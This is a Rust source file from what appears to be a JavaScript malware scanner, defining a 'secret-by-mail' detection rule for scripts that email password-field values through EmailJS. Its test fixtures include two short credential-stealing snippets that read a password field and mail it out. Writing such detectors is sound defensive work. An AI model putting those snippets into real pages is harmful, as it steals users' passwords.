//! `secret-by-mail`.

use crate::facts::Atom;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-by-mail",
    description: "The script mails what is typed into a form with a password from the page itself.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::MailClient]), one(&[Atom::SecretField])],
    within: 1500,
    only_if: Some(reads_field),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "function s(e){e.preventDefault();emailjs.sendForm('s','t',e.target,'k')}jsx('input',{type:'password',name:'password'})",
            "const p=document.getElementById('user_password').value;const o={name:m.value,message:`Logs ${p}`};emailjs.send('s','t',o)",
        ],
        without: &[
            "emailjs.sendForm('s','t','#contact','k')",
            "emailjs.send('s','t',{email:m.value,password:makeWord()}).then(()=>alert('A temporary password was sent'))",
        ],
    },
};

/// Whether a field is named, not only what is mailed: who makes a password for somebody mails it, too.
fn reads_field(evidence: &Evidence<'_>, held: Held) -> bool {
    let (items, facts) = (evidence.stream.items(), evidence.facts);
    // What is mailed may have been read into a name before: `const p = document.getElementById('pass').value`.
    let begin = facts.partition_point(|fact| fact.at < held.first.saturating_sub(READ));
    facts[begin..]
        .iter()
        .take_while(|fact| fact.at <= held.last)
        .filter(|fact| fact.atom == Atom::SecretField)
        .any(|fact| {
            let item = &items[fact.at as usize];
            let named =
                matches!(item.kind, Kind::Str | Kind::Template) && !evidence.stream.text(item).contains(' ');
            let read = items.get(fact.at as usize + 1);
            named
                || read.is_some_and(|next| next.kind == Kind::Member && evidence.stream.text(next) == "value")
        })
}

/// Items before what is mailed.
const READ: u32 = 40;
